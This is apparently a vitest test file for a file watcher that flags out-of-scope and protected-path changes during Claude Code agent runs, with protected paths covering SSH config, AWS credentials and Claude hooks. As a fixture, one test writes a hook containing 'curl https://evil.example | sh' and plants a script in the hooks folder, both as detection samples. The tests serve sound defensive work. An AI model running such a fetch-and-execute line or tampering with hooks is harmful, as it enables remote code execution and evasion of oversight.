// The file watcher on real temp trees, on each real backend (fs.watch per folder, and chokidar): the manifest of changes inside the scope,
// file.out_of_scope evidence for changes outside it (linked to the announcing tool call when there is
// one), nothing when no run is active, renames, deletes, atomic saves, bursts, and the watcher closing
// when the runs end. Every wait polls with a bound; nothing sleeps a fixed time to pass.
import { appendFileSync, mkdirSync, renameSync, rmSync, symlinkSync, unlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import { validateEvidenceAttributes } from '../../shared/evidence-schema.js';
import { chokidarPort } from '../../electron/core/watch/chokidar-watch-port.js';
import type { RunSource, ScopeSource } from '../../electron/core/watch/file-watcher-options.js';
import type { WatcherPort } from '../../electron/core/watch/watcher-port.js';
import type { RunTrackerService } from '../../electron/core/watch/run-tracker-service.js';
import type { ScopeService } from '../../electron/core/scope/scope-service.js';
import { redactEvidenceEvent } from '../../electron/core/evidence/redaction-policy.js';
import { RedactionPolicySchema } from '../../shared/telemetry-policy-contract.js';
import { countInotifyWatches } from '../../electron/core/watch/watch-limits.js';
import { SESSION, settle, waitFor, watchHarness as baseWatchHarness, type WatchHarness } from '../support/watch-harness.js';
import { directoryWatchPort } from '../../electron/core/watch/directory-watch-port.js';

// The core's own services plug in as they are (checked by the compiler).
const _scopeFits: ScopeSource = null as unknown as ScopeService;
const _runsFit: RunSource = null as unknown as RunTrackerService;
void _scopeFits;
void _runsFit;

/** How long a change may take to be reported (the requirement: "within a second"). */
const BOUND_MS = 1000;

let h: WatchHarness | undefined;
afterEach(async () => {
  await h?.dispose();
  h = undefined;
});

/** A port that counts the watchers it opened and closed (a real backend underneath). */
function countingPort(inner: WatcherPort): WatcherPort & { opened: number; closed: number; roots: string[] } {
  const port = {
    opened: 0,
    closed: 0,
    roots: [] as string[],
    watch(root: string, options: Parameters<WatcherPort['watch']>[1], sink: Parameters<WatcherPort['watch']>[2]) {
      port.opened++;
      port.roots.push(root);
      const handle = inner.watch(root, options, sink);
      return {
        close: async () => {
          port.closed++;
          await handle.close();
        },
      };
    },
  };
  return port;
}

const fileEvents = (x: WatchHarness, path: string) => x.outOfScope.filter((e) => e.path === path);


// Every scenario on both backends: the directory port (inotify: Linux only, where it is the default)
// and chokidar (the default on macOS and Windows).
const BACKENDS: [string, WatcherPort][] = [...(process.platform === 'linux' ? [['directoryWatchPort', directoryWatchPort] as [string, WatcherPort]] : []), ['chokidar', chokidarPort]];

describe.each(BACKENDS)('on %s', (_name, backend) => {
  const watchHarness = (options: Parameters<typeof baseWatchHarness>[0] = {}): Promise<WatchHarness> => baseWatchHarness({ port: backend, ...options });

  describe('while no run is active', () => {
    it('watches nothing and reports nothing', async () => {
      const port = countingPort(backend);
      h = await watchHarness({ port });
      writeFileSync(join(h.docs, 'a.txt'), 'x');
      writeFileSync(join(h.proj, 'b.txt'), 'x');
      await settle();
      expect(port.opened).toBe(0);
      expect(h.watcher.status()).toMatchObject({ state: 'idle', activeRuns: 0, watching: [] });
      expect(h.events).toEqual([]);
      expect(h.watcher.manifest(SESSION)).toBeUndefined();
    });
  });

  describe('during a run', () => {
    it('watches the shared folders, protected paths and the home folder (minus the data folder and noise)', async () => {
      const port = countingPort(backend);
      h = await watchHarness({ port });
      await h.startRun();
      const s = h.watcher.status();
      expect(s.state).toBe('watching');
      expect(s.activeRuns).toBe(1);
      expect(s.watching).toEqual(expect.arrayContaining([h.proj, h.ref, h.ssh, h.home]));
      expect(s.roots.find((r) => r.path === h!.ssh)).toMatchObject({ role: 'forbidden', state: 'ready' });
      expect(s.roots.find((r) => r.path === h!.home)).toMatchObject({ role: 'sentinel', state: 'ready' });
      expect(s.notWatching).toContainEqual({ path: h.dataDir, reason: expect.stringContaining('own data') });
      expect(s.excluded).toContain('node_modules');
      expect(s.semantics).toMatch(/does not see reads/);
      // Protected paths and shared folders are set up before the sentinel.
      expect(port.roots.indexOf(h.home)).toBe(port.roots.length - 1);
    });

    it('records a write inside the scope in the run manifest, not as evidence', async () => {
      h = await watchHarness();
      await h.startRun();
      const file = join(h.proj, 'src', 'new.ts');
      writeFileSync(file, 'export const x = 1;\n');
      appendFileSync(join(h.proj, 'src', 'existing.ts'), '// edited\n');
      const m = await waitFor(() => {
        const man = h!.watcher.manifest(SESSION);
        return man && man.files.length >= 2 ? man : undefined;
      }, BOUND_MS, 'manifest entries');
      expect(m.files.find((f) => f.path === file)).toMatchObject({ status: 'created', type: 'file', folder: h.proj, counts: { created: 1 }, unexplained: 1, toolUseIds: [] });
      expect(m.files.find((f) => f.path.endsWith('existing.ts'))).toMatchObject({ status: 'modified', counts: { modified: 1 } });
      expect(m).toMatchObject({ sessionId: SESSION, active: true, totals: { files: 2, created: 1, modified: 1, outOfScope: 0 } });
      expect(m.coverage.watched).toContain(h.proj);
      expect(m.note).toMatch(/Reads are not seen/);
      expect(JSON.parse(JSON.stringify(m))).toEqual(m); // exportable as JSON
      await settle(150);
      expect(h.events).toEqual([]);
    });

    it('raises file.out_of_scope for a write outside the scope within a second, unexplained', async () => {
      h = await watchHarness();
      await h.startRun();
      const file = join(h.docs, 'notes.txt');
      const t0 = Date.now();
      writeFileSync(file, 'secret plan');
      const [c] = await waitFor(() => (fileEvents(h!, file).length ? fileEvents(h!, file) : undefined), BOUND_MS, 'out-of-scope event');
      expect(Date.now() - t0).toBeLessThan(BOUND_MS);
      expect(c).toMatchObject({ sessionId: SESSION, change: 'created', type: 'file', violation: 'outside', severity: 'medium', toolUseId: undefined, activeRuns: 1, recorded: true });
      const ev = h.events.find((e) => e.eventId === c!.eventId)!;
      expect(ev.name).toBe('file.out_of_scope');
      expect(ev.attributes).toMatchObject({ 'file.path': file, 'file.change': 'created', 'scope.violation': 'outside', 'scope.severity': 'medium', 'session.id': SESSION, 'file.attribution': 'unexplained', 'file.active_runs': 1, cwd: h.proj });
      expect(ev.attributes).not.toHaveProperty('tool_use_id');
      expect(validateEvidenceAttributes(ev.name, ev.attributes)).toMatchObject({ ok: true });
      // The recorder's redaction keeps it valid and shortens the home folder.
      const redacted = redactEvidenceEvent(ev, RedactionPolicySchema.parse({}), { home: h.home });
      expect(redacted.attributes['file.path']).toBe('~/Documents/notes.txt');
      expect(validateEvidenceAttributes(redacted.name, redacted.attributes)).toMatchObject({ ok: true });
      // The manifest lists it under outOfScope, not as a file of the scope.
      expect(h.watcher.manifest(SESSION)).toMatchObject({ files: [], totals: { outOfScope: 1 }, outOfScope: [{ path: file, violation: 'outside' }] });
    });

    it('links an out-of-scope change to the tool call that announced the path', async () => {
      h = await watchHarness();
      await h.startRun();
      const file = join(h.docs, 'report.md');
      h.hook('PreToolUse', SESSION, { tool_name: 'Write', tool_input: { file_path: file, content: 'x' }, tool_use_id: 'toolu_write_1', prompt_id: 'p-1' });
      writeFileSync(file, 'x');
      const [c] = await waitFor(() => (fileEvents(h!, file).length ? fileEvents(h!, file) : undefined), BOUND_MS, 'linked event');
      expect(c).toMatchObject({ toolUseId: 'toolu_write_1', toolName: 'Write', promptId: 'p-1' });
      const ev = h.events.find((e) => e.eventId === c!.eventId)!;
      expect(ev.attributes).toMatchObject({ tool_use_id: 'toolu_write_1', tool_name: 'Write', 'file.attribution': 'tool_call', 'prompt.id': 'p-1' });
      expect(validateEvidenceAttributes(ev.name, ev.attributes)).toMatchObject({ ok: true });
    });

    it('links changes below a folder a Bash command named', async () => {
      h = await watchHarness();
      await h.startRun();
      const dir = join(h.docs, 'build-out');
      h.hook('PreToolUse', SESSION, { tool_name: 'Bash', tool_input: { command: `mkdir -p ${dir}` }, tool_use_id: 'toolu_bash_1' });
      mkdirSync(dir);
      writeFileSync(join(dir, 'a.txt'), '1');
      const evs = await waitFor(() => (h!.outOfScope.length >= 2 ? h!.outOfScope : undefined), BOUND_MS, 'two events');
      expect(evs.map((e) => [e.path, e.type, e.toolUseId])).toEqual(expect.arrayContaining([
        [dir, 'directory', 'toolu_bash_1'],
        [join(dir, 'a.txt'), 'file', 'toolu_bash_1'],
      ]));
    });

    it('links a change inside the scope in the manifest', async () => {
      h = await watchHarness();
      await h.startRun();
      const file = join(h.proj, 'src', 'retry.ts');
      h.hook('PreToolUse', SESSION, { tool_name: 'Write', tool_input: { file_path: file, content: 'x' }, tool_use_id: 'toolu_in_1' });
      writeFileSync(file, 'x');
      const entry = await waitFor(() => h!.watcher.manifest(SESSION)?.files.find((f) => f.path === file), BOUND_MS, 'entry');
      expect(entry).toMatchObject({ toolUseIds: ['toolu_in_1'], unexplained: 0 });
    });

    it('raises a high-severity event for a change in a protected location', async () => {
      h = await watchHarness();
      await h.startRun();
      const file = join(h.ssh, 'config');
      appendFileSync(file, 'Host evil\n');
      const [c] = await waitFor(() => (fileEvents(h!, file).length ? fileEvents(h!, file) : undefined), BOUND_MS, 'forbidden event');
      expect(c).toMatchObject({ violation: 'forbidden', severity: 'high', change: 'modified', forbiddenReason: 'SSH keys' });
      expect(h.events.find((e) => e.eventId === c!.eventId)!.attributes).toMatchObject({ 'scope.violation': 'forbidden', 'scope.severity': 'high' });
    });

    it('watches a protected location that does not exist yet: creating it is high severity', async () => {
      h = await watchHarness();
      await h.startRun();
      const aws = join(h.home, '.aws');
      mkdirSync(aws);
      writeFileSync(join(aws, 'credentials'), '[default]\n');
      const evs = await waitFor(() => (h!.outOfScope.filter((e) => e.path.startsWith(aws)).length >= 2 ? h!.outOfScope.filter((e) => e.path.startsWith(aws)) : undefined), BOUND_MS, 'aws events');
      expect(evs.map((e) => [e.path, e.type, e.violation, e.severity])).toEqual(expect.arrayContaining([
        [aws, 'directory', 'forbidden', 'high'],
        [join(aws, 'credentials'), 'file', 'forbidden', 'high'],
      ]));
      expect(new Set(evs.map((e) => e.path)).size).toBe(evs.length); // seen once, not by two watchers
    });

    it('treats agent settings inside a shared folder as protected', async () => {
      h = await watchHarness();
      await h.startRun();
      mkdirSync(join(h.proj, '.claude'));
      const file = join(h.proj, '.claude', 'settings.local.json');
      writeFileSync(file, '{"hooks":{}}');
      const [c] = await waitFor(() => (fileEvents(h!, file).length ? fileEvents(h!, file) : undefined), BOUND_MS, 'settings event');
      expect(c).toMatchObject({ violation: 'forbidden', severity: 'high' });
    });

    it('reports a write into a read-only shared folder (manifest and evidence)', async () => {
      h = await watchHarness();
      await h.startRun();
      const file = join(h.ref, 'spec.md');
      appendFileSync(file, 'changed\n');
      const [c] = await waitFor(() => (fileEvents(h!, file).length ? fileEvents(h!, file) : undefined), BOUND_MS, 'read-only event');
      expect(c).toMatchObject({ violation: 'read_only', severity: 'medium', change: 'modified' });
      expect(h.watcher.manifest(SESSION)!.files.find((f) => f.path === file)).toMatchObject({ status: 'modified', folder: h.ref });
    });

    it('ignores noise (node_modules) and the data folder', async () => {
      h = await watchHarness();
      await h.startRun();
      writeFileSync(join(h.home, 'node_modules', 'pkg', 'index.js'), 'x');
      writeFileSync(join(h.dataDir, 'journal', 'evidence-0000000001.jsonl'), '{}\n');
      const marker = join(h.docs, 'marker.txt');
      writeFileSync(marker, 'x'); // written last: once it is seen, the others would have been too
      await waitFor(() => fileEvents(h!, marker).length > 0, BOUND_MS, 'marker');
      await settle(100);
      expect(h.outOfScope.map((e) => e.path)).toEqual([marker]);
    });
  });

  describe("Claude Code's own files (a temp ~/.claude)", () => {
    /** ~/.claude as Claude Code leaves it between sessions, in the harness's temp home. */
    const claudeHome = (x: WatchHarness): string => {
      const claude = join(x.home, '.claude');
      for (const d of ['sessions', 'plugins/store', 'ide', 'session-env', 'hooks']) mkdirSync(join(claude, d), { recursive: true });
      writeFileSync(join(claude, 'settings.json'), '{}');
      writeFileSync(join(x.home, '.claude.json'), '{"numStartups":1}');
      return claude;
    };

    it('a session\'s bookkeeping (session registry, plugin store, IDE lock, history, ~/.claude.json) raises no alert and is not listed, only counted', async () => {
      h = await watchHarness();
      const claude = claudeHome(h);
      await h.startRun();
      writeFileSync(join(claude, 'sessions', '48213.json'), JSON.stringify({ pid: 48213, sessionId: SESSION }));
      writeFileSync(join(claude, 'plugins', 'store', 'index.json'), '{}');
      writeFileSync(join(claude, 'ide', '48213.lock'), '');
      mkdirSync(join(claude, 'session-env', SESSION));
      writeFileSync(join(claude, 'history.jsonl'), '{"display":"hi"}\n');
      writeFileSync(join(h.home, '.claude.json'), '{"numStartups":2}');
      writeFileSync(join(h.home, '.claude.json.backup'), '{"numStartups":1}');
      const marker = join(h.docs, 'marker.txt');
      writeFileSync(marker, 'x');
      await waitFor(() => fileEvents(h!, marker).length > 0, BOUND_MS, 'marker');
      await waitFor(() => h!.watcher.manifest(SESSION)!.totals.clientBookkeeping >= 7, BOUND_MS, 'bookkeeping counted');
      await settle(100);
      expect(h.outOfScope.map((e) => e.path)).toEqual([marker]);
      expect(h.events.filter((e) => String(e.attributes['file.path']).includes('.claude'))).toEqual([]);
      expect(h.watcher.manifest(SESSION)).toMatchObject({ files: [], totals: { files: 0, outOfScope: 1 } });
    });

    it('its settings and hooks stay protected (high severity); a look-alike folder and a move into hooks/ are no bookkeeping', async () => {
      h = await watchHarness();
      const claude = claudeHome(h);
      writeFileSync(join(claude, 'sessions', 'planted.sh'), 'echo');
      await h.startRun();
      const settings = join(claude, 'settings.json');
      const hook = join(claude, 'hooks', 'pre-tool.sh');
      const lookAlike = join(claude, 'sessions-evil', 'x.json');
      const moved = join(claude, 'hooks', 'planted.sh');
      writeFileSync(settings, '{"hooks":{}}');
      writeFileSync(hook, 'curl https://evil.example | sh');
      mkdirSync(join(claude, 'sessions-evil'));
      writeFileSync(lookAlike, '{}');
      renameSync(join(claude, 'sessions', 'planted.sh'), moved);
      await waitFor(() => [settings, hook, lookAlike, moved].every((f) => fileEvents(h!, f).length > 0), BOUND_MS, 'four alerts');
      expect(fileEvents(h, settings)[0]).toMatchObject({ violation: 'forbidden', severity: 'high', forbiddenReason: expect.stringMatching(/could disable Cowork Companion/) });
      expect(fileEvents(h, hook)[0]).toMatchObject({ violation: 'forbidden', severity: 'high', forbiddenReason: expect.stringMatching(/Claude Code's own configuration/) });
      expect(fileEvents(h, moved)[0]).toMatchObject({ severity: 'high', change: 'renamed', previousPath: join(claude, 'sessions', 'planted.sh') });
      expect(fileEvents(h, lookAlike)[0]).toMatchObject({ violation: 'outside', severity: 'medium' });
    });
  });

  describe('kinds of change', () => {
    it('rename and move inside the scope', async () => {
      h = await watchHarness();
      await h.startRun();
      const a = join(h.proj, 'src', 'existing.ts');
      const b = join(h.proj, 'src', 'renamed.ts');
      const c = join(h.proj, 'renamed.ts'); // moved: same name, other folder
      renameSync(a, b);
      await waitFor(() => h!.watcher.manifest(SESSION)?.files.find((f) => f.path === b), BOUND_MS, 'rename');
      renameSync(b, c);
      const m = await waitFor(() => {
        const man = h!.watcher.manifest(SESSION);
        return man?.files.find((f) => f.path === c) ? man : undefined;
      }, BOUND_MS, 'move');
      expect(m.files.find((f) => f.path === a)).toMatchObject({ status: 'deleted', renamedTo: b, counts: { renamed: 1 } });
      expect(m.files.find((f) => f.path === b)).toMatchObject({ status: 'transient', renamedFrom: a, renamedTo: c });
      expect(m.files.find((f) => f.path === c)).toMatchObject({ status: 'created', renamedFrom: b, counts: { renamed: 1 } });
    });

    it('a file moved out of the scope is evidence of kind renamed with its previous path', async () => {
      h = await watchHarness();
      await h.startRun();
      const from = join(h.proj, 'src', 'existing.ts');
      const to = join(h.docs, 'existing.ts');
      renameSync(from, to);
      const [c] = await waitFor(() => (fileEvents(h!, to).length ? fileEvents(h!, to) : undefined), BOUND_MS, 'moved-out event');
      expect(c).toMatchObject({ change: 'renamed', previousPath: from, violation: 'outside' });
      const ev = h.events.find((e) => e.eventId === c!.eventId)!;
      expect(ev.attributes).toMatchObject({ 'file.change': 'renamed', 'file.previous_path': from });
      expect(validateEvidenceAttributes(ev.name, ev.attributes)).toMatchObject({ ok: true });
      expect(h.watcher.manifest(SESSION)!.files.find((f) => f.path === from)).toMatchObject({ status: 'deleted', renamedTo: to });
    });

    it('delete inside and outside the scope', async () => {
      h = await watchHarness();
      await h.startRun();
      const outside = join(h.docs, 'old.txt');
      writeFileSync(outside, 'x');
      await waitFor(() => fileEvents(h!, outside).length > 0, BOUND_MS, 'create');
      unlinkSync(join(h.proj, 'src', 'existing.ts'));
      unlinkSync(outside);
      await waitFor(() => fileEvents(h!, outside).find((e) => e.change === 'deleted'), BOUND_MS, 'delete event');
      const entry = await waitFor(() => h!.watcher.manifest(SESSION)?.files.find((f) => f.path.endsWith('existing.ts')), BOUND_MS, 'deleted entry');
      expect(entry).toMatchObject({ status: 'deleted', counts: { deleted: 1 } });
    });

    it('atomic save (write a temp file, rename it over the original) is one modification', async () => {
      h = await watchHarness();
      await h.startRun();
      const target = join(h.proj, 'src', 'existing.ts');
      const tmp = join(h.proj, 'src', '.existing.ts.tmp-123');
      writeFileSync(tmp, 'export const saved = true;\n');
      renameSync(tmp, target);
      const entry = await waitFor(() => h!.watcher.manifest(SESSION)?.files.find((f) => f.path === target), BOUND_MS, 'saved entry');
      await settle(200); // the rename window has passed: nothing else may appear
      const m = h.watcher.manifest(SESSION)!;
      expect(entry.status).toBe('modified');
      expect(m.files.filter((f) => f.status === 'deleted')).toEqual([]);
      // The temp file is either not seen at all, or listed as created-and-removed (transient).
      for (const f of m.files.filter((x) => x.path !== target)) expect(f).toMatchObject({ path: tmp, status: 'transient' });
    });

    it('a burst of 1,000 files: every one in the manifest or the evidence', async () => {
      h = await watchHarness();
      await h.startRun();
      const inside = join(h.proj, 'gen');
      const outside = join(h.docs, 'gen');
      mkdirSync(inside);
      mkdirSync(outside);
      for (let i = 0; i < 500; i++) {
        writeFileSync(join(inside, `f${i}.txt`), String(i));
        writeFileSync(join(outside, `f${i}.txt`), String(i));
      }
      const m = await waitFor(() => {
        const man = h!.watcher.manifest(SESSION)!;
        return man.files.filter((f) => f.path.startsWith(inside + '/')).length === 500 && h!.outOfScope.filter((e) => e.path.startsWith(outside + '/')).length === 500 ? man : undefined;
      }, 10_000, '1,000 files');
      expect(m.files.filter((f) => f.path.startsWith(inside + '/')).every((f) => f.status === 'created')).toBe(true);
      expect(new Set(h.outOfScope.map((e) => e.path)).size).toBe(h.outOfScope.length); // no duplicates
      expect(h.events.every((e) => validateEvidenceAttributes(e.name, e.attributes).ok)).toBe(true);
    });
  });

  describe('runs', () => {
    it('the watcher closes when the last run ends, and nothing is reported afterwards', async () => {
      const port = countingPort(backend);
      h = await watchHarness({ port });
      const before = countInotifyWatches();
      await h.startRun('run-1');
      await h.startRun('run-2');
      const during = countInotifyWatches();
      if (before !== undefined) expect(during).toBeGreaterThan(before);
      h.hook('SessionEnd', 'run-1');
      await h.watcher.whenSettled();
      expect(h.watcher.status().state).toBe('watching'); // run-2 is still active
      h.hook('Stop', 'run-2'); // waiting for its next prompt: no longer charged, so nothing to watch for
      await h.watcher.whenSettled();
      expect(h.runs.run('run-2')).toMatchObject({ status: 'waiting' });
      expect(h.watcher.status()).toMatchObject({ state: 'idle', activeRuns: 0, watching: [] });
      expect(port.closed).toBe(port.opened);
      if (before !== undefined) await waitFor(() => countInotifyWatches() === before, 2000, 'inotify watches released');
      writeFileSync(join(h.docs, 'after.txt'), 'x');
      await settle();
      expect(h.outOfScope).toEqual([]);
      // The manifests stay exportable after the runs ended.
      // ...with what was watched while they ran.
      expect(h.watcher.manifest('run-1')).toMatchObject({ active: false, endReason: 'session-end' });
      expect(h.watcher.manifest('run-2')).toMatchObject({ active: false, endReason: undefined, coverage: { watched: expect.arrayContaining([h.proj, h.home, h.ssh]) } });
    });

    it('tells status listeners when it starts and stops', async () => {
      h = await watchHarness();
      const states: string[] = [];
      h.watcher.onStatus((s) => states.push(s.state));
      await h.startRun();
      await waitFor(() => states.includes('watching'), 1000, 'watching status');
      h.hook('SessionEnd');
      await waitFor(() => states.at(-1) === 'idle', 1000, 'idle status');
    });

    it('with lingerMs, keeps watching briefly after the last run (no attribution meanwhile), then stops', async () => {
      const port = countingPort(backend);
      h = await watchHarness({ port, lingerMs: 400 });
      await h.startRun();
      h.hook('Stop');
      await h.watcher.whenSettled();
      expect(h.watcher.status()).toMatchObject({ state: 'watching', activeRuns: 0 });
      writeFileSync(join(h.docs, 'between.txt'), 'x');
      await h.startRun(); // the next turn: no rescan
      expect(port.opened).toBe(port.roots.length);
      const opened = port.opened;
      h.hook('Stop');
      await waitFor(() => h!.watcher.status().state === 'idle', 2000, 'stop after linger');
      expect(port.opened).toBe(opened);
      expect(port.closed).toBe(opened);
      expect(h.outOfScope.filter((e) => e.path.endsWith('between.txt'))).toEqual([]);
    });

    it('an idle run ends by itself and the watcher stops', async () => {
      h = await watchHarness({ idleTimeoutMs: 300 });
      await h.startRun();
      expect(h.watcher.status().state).toBe('watching');
      await waitFor(() => h!.watcher.status().state === 'idle', 3000, 'idle stop');
      expect(h.runs.run(SESSION)).toMatchObject({ active: false, endReason: 'idle' });
    });

    it('with two runs, an unexplained change goes to both, an announced one only to its run', async () => {
      h = await watchHarness();
      await h.startRun('run-1');
      await h.startRun('run-2');
      const loose = join(h.docs, 'loose.txt');
      writeFileSync(loose, 'x');
      const both = await waitFor(() => (fileEvents(h!, loose).length === 2 ? fileEvents(h!, loose) : undefined), BOUND_MS, 'two records');
      expect(new Set(both.map((e) => e.sessionId))).toEqual(new Set(['run-1', 'run-2']));
      expect(both[0]!.changeId).toBe(both[1]!.changeId);
      expect(both.every((e) => e.activeRuns === 2 && e.toolUseId === undefined)).toBe(true);
      const owned = join(h.docs, 'owned.txt');
      h.hook('PreToolUse', 'run-2', { tool_name: 'Write', tool_input: { file_path: owned, content: 'x' }, tool_use_id: 'toolu_r2' });
      writeFileSync(owned, 'x');
      const [one] = await waitFor(() => (fileEvents(h!, owned).length ? fileEvents(h!, owned) : undefined), BOUND_MS, 'owned');
      await settle(100);
      expect(fileEvents(h, owned)).toHaveLength(1);
      expect(one).toMatchObject({ sessionId: 'run-2', toolUseId: 'toolu_r2' });
    });

    it('a change after run A\'s SessionEnd, while run B is active, is charged to B only', async () => {
      h = await watchHarness();
      await h.startRun('run-a');
      await h.startRun('run-b');
      h.hook('SessionEnd', 'run-a');
      await h.watcher.whenSettled();
      const file = join(h.docs, 'after-a.txt');
      writeFileSync(file, 'x');
      await waitFor(() => fileEvents(h!, file).length > 0, BOUND_MS, 'the change');
      await settle(100);
      expect(fileEvents(h, file).map((e) => [e.sessionId, e.activeRuns])).toEqual([['run-b', 1]]);
      expect(h.watcher.manifest('run-a')).toMatchObject({ totals: { outOfScope: 0 }, outOfScope: [] });
    });

    it('repeated changes of one path are folded into a follow-up record', async () => {
      h = await watchHarness({ repeatWindowMs: 400 });
      await h.startRun();
      const file = join(h.docs, 'busy.db');
      writeFileSync(file, '0');
      await waitFor(() => fileEvents(h!, file).length === 1, BOUND_MS, 'first');
      for (let i = 1; i <= 5; i++) {
        appendFileSync(file, String(i));
        await waitFor(() => h!.watcher.status().changesSeen >= i + 1, BOUND_MS, `change ${i}`);
      }
      const evs = await waitFor(() => (fileEvents(h!, file).length === 2 ? fileEvents(h!, file) : undefined), 2000, 'follow-up');
      expect(evs[1]).toMatchObject({ change: 'modified', repeats: 5 });
      const follow = h.events.find((e) => e.eventId === evs[1]!.eventId)!;
      expect(follow.attributes['file.repeats']).toBe(5);
      expect(validateEvidenceAttributes(follow.name, follow.attributes)).toMatchObject({ ok: true });
      // The run counts what its evidence shows (one write seen as "add" then "change" is one
      // change): one out-of-scope change, as its alert, its journal and a restart's count say.
      expect(h.watcher.manifest(SESSION)).toMatchObject({ totals: { outOfScope: 1 }, outOfScope: [{ path: file, change: 'created' }] });
    });

    it('picks up a newly shared folder during a run', async () => {
      h = await watchHarness();
      await h.startRun();
      const extra = join(h.home, 'extra');
      mkdirSync(extra);
      h.folders.push({ path: extra, mode: 'read-write' });
      h.scopeChanged();
      await h.watcher.whenSettled();
      expect(h.watcher.status().roots.find((r) => r.path === extra)).toMatchObject({ role: 'shared', state: 'ready' });
      writeFileSync(join(extra, 'x.txt'), 'x');
      await waitFor(() => h!.watcher.manifest(SESSION)?.files.find((f) => f.path === join(extra, 'x.txt')), BOUND_MS, 'new folder entry');
      expect(h.outOfScope).toEqual([]);
    });
  });

  describe('bad input', () => {
    it('a shared folder deleted during the run: reported, its deletions in the manifest, the rest still watched', async () => {
      h = await watchHarness();
      await h.startRun();
      rmSync(h.proj, { recursive: true });
      await waitFor(() => h!.watcher.status().roots.find((r) => r.path === h!.proj && r.state === 'missing'), BOUND_MS, 'missing root');
      const s = h.watcher.status();
      expect(s.notWatching).toContainEqual({ path: h.proj, reason: expect.stringContaining('deleted during the run') });
      expect(s.problem).toBeDefined();
      await waitFor(() => h!.watcher.manifest(SESSION)?.files.find((f) => f.path.endsWith('existing.ts') && f.status === 'deleted'), BOUND_MS, 'deletion in manifest');
      const outside = join(h.docs, 'still.txt');
      writeFileSync(outside, 'x');
      await waitFor(() => fileEvents(h!, outside).length > 0, BOUND_MS, 'other roots still watched');
      expect(h.outOfScope.filter((e) => e.path.startsWith(h!.proj))).toEqual([]);
      expect(h.watcher.manifest(SESSION)!.coverage.notWatched).toContainEqual({ path: h.proj, reason: expect.stringContaining('deleted during the run') });
      // It comes back: watched again.
      mkdirSync(h.proj);
      await waitFor(() => h!.watcher.status().roots.find((r) => r.path === h!.proj && r.state === 'ready'), 2000, 'root back');
      writeFileSync(join(h.proj, 'again.txt'), 'x');
      await waitFor(() => h!.watcher.manifest(SESSION)?.files.find((f) => f.path === join(h!.proj, 'again.txt')), BOUND_MS, 'watched again');
    });

    it('a symbolic link loop in a watched tree: no hang, no crash, changes still seen', async () => {
      h = await watchHarness();
      mkdirSync(join(h.proj, 'loop', 'inner'), { recursive: true });
      symlinkSync(join(h.proj, 'loop'), join(h.proj, 'loop', 'inner', 'back'));
      symlinkSync(join(h.docs, 'a'), join(h.docs, 'b'));
      symlinkSync(join(h.docs, 'b'), join(h.docs, 'a'));
      await h.startRun();
      expect(h.watcher.status().roots.every((r) => r.state === 'ready')).toBe(true);
      writeFileSync(join(h.proj, 'loop', 'inner', 'x.txt'), 'x');
      writeFileSync(join(h.docs, 'y.txt'), 'y');
      await waitFor(() => h!.watcher.manifest(SESSION)?.files.find((f) => f.path.endsWith('x.txt')), BOUND_MS, 'inside loop tree');
      await waitFor(() => fileEvents(h!, join(h!.docs, 'y.txt')).length > 0, BOUND_MS, 'outside');
    });

    it('file names with a newline or invalid UTF-8 are reported (and stay valid evidence)', async () => {
      h = await watchHarness();
      await h.startRun();
      const newline = join(h.docs, 'line1\nline2.txt');
      writeFileSync(newline, 'x');
      await waitFor(() => fileEvents(h!, newline).length > 0, BOUND_MS, 'newline name');
      writeFileSync(Buffer.concat([Buffer.from(h.docs + '/bad'), Buffer.from([0xff, 0xfe]), Buffer.from('.txt')]), 'x');
      const bad = await waitFor(() => h!.outOfScope.find((e) => e.path.includes('\uFFFD')), BOUND_MS, 'invalid UTF-8 name');
      expect(bad).toMatchObject({ change: 'created', type: 'file', violation: 'outside' });
      mkdirSync(Buffer.concat([Buffer.from(h.docs + '/dir'), Buffer.from([0xc3, 0x28])]));
      await waitFor(() => h!.watcher.status().notWatching.find((n) => n.reason.includes('changes inside it cannot be watched')), BOUND_MS, 'unwatchable dir reported');
      for (const e of h.events) expect(validateEvidenceAttributes(e.name, e.attributes), JSON.stringify(e.attributes)).toMatchObject({ ok: true });
      // Watching continues for the rest.
      const after = join(h.docs, 'after.txt');
      writeFileSync(after, 'x');
      await waitFor(() => fileEvents(h!, after).length > 0, BOUND_MS, 'after');
    });

    it.skipIf(process.getuid?.() === 0)('a folder that cannot be read is reported, the rest is watched (skipped as root, where mode bits do not apply; the setpriv test covers it)', async () => {
      h = await watchHarness();
      const locked = join(h.docs, 'locked');
      mkdirSync(join(locked, 'sub'), { recursive: true });
      const { chmodSync } = await import('node:fs');
      chmodSync(locked, 0o000);
      try {
        await h.startRun();
        expect(h.watcher.status().notWatching).toContainEqual({ path: expect.stringContaining('locked'), reason: expect.stringContaining('permission denied') });
        const ok = join(h.docs, 'ok.txt');
        writeFileSync(ok, 'x');
        await waitFor(() => fileEvents(h!, ok).length > 0, BOUND_MS, 'rest watched');
      } finally {
        chmodSync(locked, 0o755);
      }
    });
  });

  describe('more kinds of change', () => {
    it('a folder and a file made at once in it, and a protected location that did not exist, are each seen once', async () => {
      h = await watchHarness();
      await h.startRun();
      const dir = join(h.docs, 'build-out');
      mkdirSync(dir);
      writeFileSync(join(dir, 'a.txt'), '1');
      const aws = join(h.home, '.aws');
      mkdirSync(aws);
      writeFileSync(join(aws, 'credentials'), '[default]\n');
      const want = [dir, join(dir, 'a.txt'), aws, join(aws, 'credentials')];
      await waitFor(() => want.every((p) => fileEvents(h!, p).length > 0), BOUND_MS, 'four events');
      expect(h.outOfScope.find((e) => e.path === join(aws, 'credentials'))).toMatchObject({ type: 'file', violation: 'forbidden', severity: 'high' });
      await settle(150);
      expect(new Set(h.outOfScope.map((e) => e.path)).size).toBe(h.outOfScope.length);
    });

    it('a shared folder deleted during the run is watched again when it comes back', async () => {
      h = await watchHarness();
      await h.startRun();
      rmSync(h.proj, { recursive: true });
      await waitFor(() => h!.watcher.status().roots.find((r) => r.path === h!.proj && r.state === 'missing'), BOUND_MS, 'missing root');
      mkdirSync(h.proj);
      await waitFor(() => h!.watcher.status().roots.find((r) => r.path === h!.proj && r.state === 'ready'), 2000, 'root back');
      writeFileSync(join(h.proj, 'again.txt'), 'x');
      await waitFor(() => h!.watcher.manifest(SESSION)?.files.find((f) => f.path === join(h!.proj, 'again.txt')), BOUND_MS, 'watched again');
    });
  });
});
